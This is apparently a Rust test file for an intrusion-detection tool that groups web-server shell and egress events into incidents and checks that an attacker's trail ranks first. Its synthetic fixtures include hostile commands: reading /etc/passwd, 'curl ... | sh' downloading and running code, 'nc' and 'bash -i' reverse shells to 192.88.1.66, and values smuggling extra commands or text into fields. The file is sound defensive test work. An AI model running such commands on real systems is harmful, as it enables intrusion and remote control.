//! What belongs together, and what stands first.

use portcullis_event::field;
use portcullis_story::{Event, Incident, Members, Named, Outcome, Story, find, named};
use serde_json::{Value, json};

/// An event of a request.
struct Made<'m> {
    number: u64,
    rule: &'m str,
    site: &'m str,
    script: &'m str,
    client: &'m str,
    command: &'m str,
}

const DAY: i64 = 1_790_000_000;

impl Made<'_> {
    fn value(&self) -> Value {
        let Made { number, rule, site, script, client, command } = self;
        let time = jiff::Timestamp::from_second(DAY + *number as i64 * 60).expect("a time");
        let mut value = json!({
            "@timestamp": time.to_string(), "rule": { "id": rule },
            "event": { "id": format!("ab-{number}"), "action": "exec", "outcome": "success" },
            "host": { "hostname": "web1" }, "client": { "address": client },
            "http": { "request": { "id": format!("{number:x}") } }, "url": { "original": "/", "domain": site },
            "process": { "command_line": command, "parent": { "pid": 100 } },
            "portcullis": { "chain": "php-fpm > sh", "vhost": site, "stream": "ab", "request": { "script": script } },
        });
        if *rule == "egress-port" {
            value["event"]["action"] = "connection_attempted".into();
            let (ip, port) = command.split_once(':').expect("a destination");
            value["destination"] = json!({ "ip": ip, "port": port.parse::<u16>().expect("a port") });
        }
        value
    }
}

/// An ordinary day of ten sites, in which somebody does `more` by one script.
fn day(more: &[(&str, &str)], client: &str, script: &str) -> Vec<Value> {
    let mut events = Vec::new();
    for number in 0..600_u64 {
        let site = format!("site{}.example", number % 10);
        let visitor = format!("198.51.100.{}", number % 57);
        let (script, command) = match number % 3 {
            0 => ("contact.php", "sh -c '/usr/sbin/sendmail -t -i'".to_owned()),
            1 => ("image.php", format!("sh -c 'convert /tmp/php{number} -resize 200x200 out/{number}.jpg'")),
            _ => ("feed.php", "203.0.113.9:8443".to_owned()),
        };
        let rule = if number % 3 == 2 { "egress-port" } else { "shell-spawn" };
        let script = format!("/srv/{site}/{script}");
        events.push(Made { number, rule, site: &site, script: &script, client: &visitor, command: &command }.value());
    }
    for (at, (rule, command)) in more.iter().enumerate() {
        let made = Made { number: 1000 + at as u64, rule, site: "site4.example", script, client, command };
        events.insert(250 + 3 * at, made.value());
    }
    events
}

fn found(values: &[Value], max: usize) -> Vec<Incident> {
    let mut story = Story::bounded(max);
    for value in values {
        story.take(&Event::of(value), true);
    }
    find(&story.told())
}

const SHELL: [(&str, &str); 4] = [
    ("shell-spawn", "sh -c id"),
    ("shell-spawn", "sh -c 'cat /etc/passwd'"),
    ("exec-tool", "curl http://192.88.1.66/x"),
    ("egress-port", "192.88.1.66:4444"),
];

#[test]
fn the_intruder_stands_first() {
    for script in ["/srv/site4.example/up.php", "/srv/site4.example/contact.php"] {
        let incidents = found(&day(&SHELL, "192.88.1.66", script), usize::MAX);
        let first = &incidents[0];
        let name = script.rsplit('/').next().expect("a name");
        assert_eq!(
            first.title(),
            format!("Shell command from site4.example: {name}, by 192.88.1.66, 4 requests, not blocked"),
            "{:?}",
            incidents.iter().map(|incident| (incident.score, incident.title())).collect::<Vec<_>>()
        );
        assert_eq!(first.outcome, Outcome::NotBlocked);
        let what: Vec<&str> = first.steps.iter().map(|step| &*step.what).collect();
        assert_eq!(what, ["sh -c id", "sh -c 'cat /etc/passwd'", "curl http://192.88.1.66/x", "192.88.1.66:4444/"]);
        assert!(first.score >= incidents[1].score + 20, "{} {}", first.score, incidents[1].score);
        // What everybody does is one incident a script.
        assert!(incidents[1..].iter().all(|incident| incident.is_ordinary), "{incidents:#?}");
        assert_eq!(incidents.len(), 1 + 30);
    }
}

/// Incidents are the same whatever the order of the events, and where they are there twice.
#[test]
fn order_and_copies_change_nothing() {
    let events = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
    let facts = |values: &[Value]| -> Vec<(String, u32, [u64; 2])> {
        found(values, usize::MAX).iter().map(|one| (one.title(), one.score, one.calls)).collect()
    };
    let expected = facts(&events);
    let mut other: Vec<Value> = events.iter().rev().chain(&events).cloned().collect();
    assert_eq!(facts(&other), expected);
    other.rotate_left(333);
    assert_eq!(facts(&other), expected);
}

/// With little memory, ordinary trails are put together; the intruder is told apart all the same.
/// Whoever notes an ID finds the incident by it when more of the log is there: older files, other hosts, or what came since.
#[test]
fn an_id_stays_when_more_is_read() {
    let all = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
    let whole = found(&all, usize::MAX);
    let intruder = |incidents: &[Incident]| {
        let of = incidents.iter().find(|one| one.clients.iter().any(|client| &**client == "192.88.1.66"));
        of.map(|incident| incident.id.clone())
    };
    // The intruder's events are the 250th, and each third one after it.
    for (from, to) in [(0, 252), (200, 400), (250, 300), (259, all.len()), (0, all.len())] {
        let part = found(&all[from..to], usize::MAX);
        assert!(intruder(&part).is_some(), "{from} {to}");
        assert_eq!(intruder(&part), intruder(&whole), "{from} {to}");
        for incident in &part {
            let again = meant(named(&whole, &incident.id));
            assert_eq!(again.len(), 1, "{from} {to}: {}", incident.title());
            let is_same =
                |one: &[std::rc::Rc<str>], other: &[std::rc::Rc<str>]| one.iter().any(|name| other.contains(name));
            assert!(is_same(&incident.scripts, &again[0].scripts), "{}: {}", incident.title(), again[0].title());
        }
    }
    assert_eq!(meant(named(&whole, &whole[0].id.to_ascii_uppercase())).len(), 1);
    assert!(matches!(named(&whole, "zzzzzzzzzzzzzzzz"), Named::Unknown));
}

fn meant(named: Named<'_>) -> Vec<&Incident> {
    match named {
        Named::Own(all) | Named::Former(all) => all,
        Named::Unknown => Vec::new(),
    }
}

/// What everybody did by a script yesterday is odd today, of many clients or of a few: yesterday's ID still finds it, also by its first
/// digits, and what was odd finds what is ordinary.
#[test]
fn an_id_stays_when_what_is_ordinary_changes() {
    let mail = |number: u64, client: &str| {
        let (script, command) = ("/srv/site1.example/contact.php", "sh -c '/usr/sbin/sendmail -t -i'");
        Made { number, rule: "shell-spawn", site: "site1.example", script, client, command }.value()
    };
    let mails = |numbers: std::ops::Range<u64>, clients: u64| -> Vec<Value> {
        numbers.step_by(7).map(|number| mail(number, &format!("198.51.100.{}", number % clients))).collect()
    };
    let (many, few) = (mails(0..700, 40), mails(0..700, 1));
    let later: Vec<Value> = (0..20).map(|number| mail(4000 + number, &format!("198.51.100.{}", number % 40))).collect();
    let other =
        Made { number: 3000, rule: "egress-port", site: "", script: "/srv/x.php", client: "", command: "192.0.2.9:99" };
    let ordinary = &found(&many, usize::MAX)[0];
    assert!(ordinary.is_ordinary, "{ordinary:?}");
    // Of the newer events alone, nobody can say it of: a log that begins with something else has it as new.
    let mut early = other;
    early.number = 0;
    let newer = found(&[&[early.value()], later.as_slice()].concat(), usize::MAX);
    for id in [&*ordinary.id, &ordinary.id[..8]] {
        let again = meant(named(&newer, id));
        assert!(!again.is_empty() && again.iter().all(|one| !one.is_common), "{id}: {again:?}");
        assert!(again.iter().all(|one| one.scripts.iter().any(|script| script.contains("contact.php"))), "{id}");
        assert!(matches!(named(&newer, id), Named::Former(_)));
    }
    let odd = &found(&few, usize::MAX)[0];
    assert!(!odd.is_ordinary);
    let both = found(&[few, many].concat(), usize::MAX);
    assert!(both[0].is_ordinary && meant(named(&both, &odd.id)).len() == 1, "{both:?}");
}

/// Incidents with one ID, or one beginning, are all there: none hides behind another.
#[test]
fn incidents_of_one_id_are_all_named() {
    let mut incidents = found(&day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php"), usize::MAX);
    incidents[0].id = "00112233445566778".chars().take(16).collect();
    incidents[3].id = incidents[0].id.clone();
    incidents[5].id = "0011223300000000".to_owned();
    for (id, wanted) in [("0011223344556677", 2), ("00112233", 3), ("001122330", 1)] {
        assert!(matches!(named(&incidents, id), Named::Own(found) if found.len() == wanted), "{id}");
    }
}

/// A graver trail gives its name to the incident that it is joined with; the name of before still finds it.
#[test]
fn an_id_of_before_finds_what_became_of_it() {
    let scripts = ["/srv/site4.example/a.php", "/srv/site4.example/up.php"];
    let made = |number, rule, script| {
        let command = "bash -c 'something rare'";
        Made { number, rule, site: "site4.example", script, client: "192.88.1.66", command }.value()
    };
    let first = [made(1, "exec-tool", scripts[0])];
    let both = [made(1, "exec-tool", scripts[0]), made(2, "stdio-socket", scripts[1])];
    let (first, both) = (found(&first, usize::MAX), found(&both, usize::MAX));
    assert_eq!((first.len(), both.len()), (1, 1));
    assert_ne!(first[0].id, both[0].id);
    assert!(matches!(named(&both, &first[0].id), Named::Former(found) if found[0].id == both[0].id));
}

/// A log can be looked at while it is read: what is found is the same as afterwards.
#[test]
fn looking_changes_nothing() {
    let mut story = Story::default();
    let all = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
    let ids =
        |incidents: Vec<Incident>| incidents.into_iter().map(|one| (one.id, one.score, one.calls)).collect::<Vec<_>>();
    for (at, value) in all.iter().enumerate() {
        story.take(&Event::of(value), true);
        if at % 100 == 0 || at + 1 == all.len() {
            assert_eq!(ids(story.so_far(find)), ids(found(&all[..=at], usize::MAX)), "{at}");
        }
    }
}

/// No value of a request continues the sentence that it stands in.
#[test]
fn a_title_says_what_is_a_value() {
    let title = |site: &str, script: &str, client: &str| {
        let made = Made { number: 1, rule: "exec-tool", site, script, client, command: "bash -c 'something rare'" };
        found(&[made.value()], usize::MAX)[0].title()
    };
    let plain = title("shop.example:8080", "/srv/shop/up.php", "2001:db8::1");
    assert!(plain.contains(" from shop.example:8080: up.php, by 2001:db8::1, 1 request"), "{plain}");
    let faked = title("a: b.php, by 192.0.2.1, blocked", "/srv/x\", by \"1", "::1");
    assert!(faked.contains(" from \"a: b.php, by 192.0.2.1, blocked\": \"x\\\", by \\\"1\", by ::1, "), "{faked}");
    let long = title(&"s".repeat(200), "/srv/a.php", "::1");
    assert!(long.contains(&format!(" from {}\u{2026}{}: a.php", "s".repeat(39), "s".repeat(40))), "{long}");
}

#[test]
fn little_memory_hides_nobody() {
    let mut events = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
    for number in 0..20_000_u64 {
        let client = format!("10.{}.{}.{}", number >> 16, number >> 8 & 255, number & 255);
        let script = "/srv/site1.example/contact.php";
        let command = "sh -c '/usr/sbin/sendmail -t -i'";
        let made = Made {
            number: 5000 + number,
            rule: "shell-spawn",
            site: "site1.example",
            script,
            client: &client,
            command,
        };
        events.push(made.value());
    }
    let incidents = found(&events, 1 << 20);
    assert!(incidents[0].title().starts_with("Shell command from site4.example: up.php, by 192.88.1.66, 4 requests"));
    let mails = incidents.iter().find(|incident| incident.title().contains("site1.example: contact.php"));
    let (clients, is_exact) = mails.expect("the mails").counts[2];
    assert!(!is_exact && (14_000..=26_000).contains(&clients), "{clients}");
    assert!(mails.is_some_and(|mails| mails.calls == [20_020, 0]), "{mails:?}");
}

/// The events of an incident are found again: its own and no others.
#[test]
fn the_events_of_an_incident_are_found() {
    let events = day(&SHELL, "192.88.1.66", "/srv/site4.example/contact.php");
    let incidents = found(&events, usize::MAX);
    let mut members = Members::default();
    let own = events.iter().map(Event::of).filter(|event| members.is_of(event, &incidents[0]));
    let clients: Vec<String> = own.map(|event| event.text(field::CLIENT_ADDRESS).to_owned()).collect();
    assert_eq!(clients, ["192.88.1.66"; 4]);
}

/// Events of programs that a request started and that lost it are the request's.
#[test]
fn a_tree_of_programs_is_one() {
    let mut events = day(&SHELL[..1], "192.88.1.66", "/srv/site4.example/up.php");
    let mut started = events[250].clone();
    started["process"] = json!({ "pid": 777, "command_line": "bash -i", "parent": { "pid": 100 } });
    started["event"]["id"] = "ab-2000".into();
    started["@timestamp"] = later(&events[250], 1);
    events.insert(251, started);
    let mut lost = events[250].clone();
    for (key, value) in [("client", json!({})), ("http", json!({})), ("url", json!({}))] {
        lost[key] = value;
    }
    lost["event"]["id"] = "ab-2001".into();
    lost["@timestamp"] = later(&events[250], 2);
    lost["portcullis"] = json!({ "chain": "php-fpm > sh > bash > nc", "stream": "cd" });
    lost["process"] = json!({ "command_line": "nc 192.88.1.66 4444", "parent": { "pid": 777 } });
    events.insert(252, lost);
    let incidents = found(&events, usize::MAX);
    let what: Vec<&str> = incidents[0].steps.iter().map(|step| &*step.what).collect();
    assert_eq!(what, ["sh -c id", "bash -i", "nc 192.88.1.66 4444"], "{:#?}", incidents[0]);
}

fn later(event: &Value, seconds: i64) -> Value {
    let time: jiff::Timestamp = event["@timestamp"].as_str().expect("a time").parse().expect("a time");
    jiff::Timestamp::from_second(time.as_second() + seconds).expect("a time").to_string().into()
}

/// A script of a few clients is not ordinary because they do the same by it; nor is one client's, who does the same on several sites.
#[test]
fn what_few_clients_do_is_not_ordinary() {
    let at = |number: usize, site: &str, client: &str, command: &str| {
        let script = format!("/srv/{site}/.cache.php");
        Made { number: 3000 + number as u64, rule: "shell-spawn", site, script: &script, client, command }.value()
    };
    let mut events = day(&[], "", "");
    for (number, client) in ["192.88.1.1", "192.88.1.2", "192.88.1.3"].into_iter().enumerate() {
        events.push(at(2 * number, "site3.example", client, "sh -c id"));
        events.push(at(2 * number + 1, "site3.example", client, "sh -c 'uname -a'"));
    }
    let first = &found(&events, usize::MAX)[0];
    assert_eq!(
        first.title(),
        "Shell command from site3.example: .cache.php, by 192.88.1.1 and 2 more, 6 requests, not blocked"
    );

    let mut events = day(&[], "", "");
    for (number, site) in ["site1.example", "site2.example", "site3.example"].into_iter().enumerate() {
        events.push(at(number, site, "192.88.1.1", "sh -c 'curl http://192.88.1.9/x | sh'"));
    }
    let first = &found(&events, usize::MAX)[0];
    assert_eq!(
        first.title(),
        "Shell command from site1.example and 2 more: .cache.php and 2 more, by 192.88.1.1, 3 requests, not blocked"
    );
}

/// Several people type the same: what they have in common is no sign of one.
#[test]
fn the_same_command_of_two_people_is_two_incidents() {
    let mut events = day(&[], "", "");
    for (number, site, client) in [(1, "site3.example", "192.88.1.1"), (2, "site4.example", "192.88.1.2")] {
        let script = format!("/srv/{site}/.cache{number}.php");
        let rule = "shell-spawn";
        events.push(Made { number: 3000 + number, rule, site, script: &script, client, command: "sh -c id" }.value());
    }
    let all = found(&events, usize::MAX);
    assert_eq!(all[0].title(), "Shell command from site4.example: .cache2.php, by 192.88.1.2, 1 request, not blocked");
    assert_eq!(all[1].title(), "Shell command from site3.example: .cache1.php, by 192.88.1.1, 1 request, not blocked");
}

/// A site that is contained has another virtual host from then on, and is the same.
#[test]
fn what_is_contained_meanwhile_is_one_site() {
    let mut events = day(&[], "", "");
    for number in 0..2_u64 {
        let (script, client, rule) = ("/srv/site3.example/.cache.php", "192.88.1.1", "shell-spawn");
        let made = Made { number: 3000 + number, rule, site: "site3.example", script, client, command: "sh -c id" };
        let mut event = made.value();
        if number == 1 {
            event["portcullis"]["vhost"] = "contain-srv-site3-example".into();
            event["url"] = json!({ "domain": "site3.example" });
        }
        events.push(event);
    }
    let first = &found(&events, usize::MAX)[0];
    assert_eq!(first.title(), "Shell command from site3.example: .cache.php, by 192.88.1.1, 2 requests, not blocked");
}

/// A command that a shell takes apart is not like the ordinary one.
#[test]
fn a_command_with_more_in_it_is_told_apart() {
    for command in [
        "sh -c 'convert /tmp/php7 -resize 200x200 out/7.jpg;/srv/site4.example/out/x'",
        "sh -c 'convert /tmp/php7 -resize 200x200 out/7.php'",
    ] {
        let more = [("shell-spawn", command)];
        let incidents = found(&day(&more, "198.51.100.3", "/srv/site4.example/image.php"), usize::MAX);
        assert!(incidents[0].steps.iter().any(|step| &*step.what == command), "{:#?}", incidents[0]);
        assert!(!incidents[0].is_ordinary && incidents[1].is_ordinary, "{command}");
    }
}

/// What is ordinary all of the log says, also where a part is asked for.
#[test]
fn what_is_not_chosen_shows_what_is_ordinary() {
    let events = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
    let mut story = Story::default();
    for (at, value) in events.iter().enumerate() {
        story.take(&Event::of(value), (240..=270).contains(&at));
    }
    let incidents = find(&story.told());
    assert!(incidents[0].title().contains("up.php") && incidents[1..].iter().all(|one| one.is_ordinary));
    assert!((10..=28).contains(&incidents.len()), "{}: those without a chosen event are left out", incidents.len());
}

#[test]
fn without_a_request_the_program_is_named() {
    let mut events = day(&[], "", "");
    let mut event = events[0].clone();
    for key in ["client", "http", "url"] {
        event[key] = json!({});
    }
    event["event"]["id"] = "ab-9000".into();
    event["portcullis"] = json!({ "chain": "php-fpm: pool www > sh", "stream": "ab" });
    event["process"]["command_line"] = "sh -c w".into();
    events.push(event);
    let first = &found(&events, usize::MAX)[0];
    assert_eq!(first.title(), "Shell command, no known request of \"php-fpm: pool www\", not blocked");
    assert!(first.scripts.is_empty());
}

/// Nobody's values break anything, and what is no event of this version counts all the same.
#[test]
fn any_fields() {
    let odd = [
        json!({}),
        json!({ "rule": { "id": "of-tomorrow" }, "event": { "severity": 900, "id": "x" }, "message": "m" }),
        json!({ "rule": { "id": "egress-port" }, "@timestamp": "never", "portcullis": { "repeated": u64::MAX } }),
        json!({ "event": { "action": "merged", "id": "ab-1" }, "portcullis": { "like": "zz-9", "repeated": 7 } }),
        json!({ "process": { "command_line": "\u{e9}".repeat(5000), "pid": u64::MAX }, "event": { "action": "exec" } }),
    ];
    let incidents = found(&odd, usize::MAX);
    assert!(!incidents.is_empty());
    assert!(incidents.iter().all(|incident| !incident.title().is_empty() && incident.id.len() == 16));
}
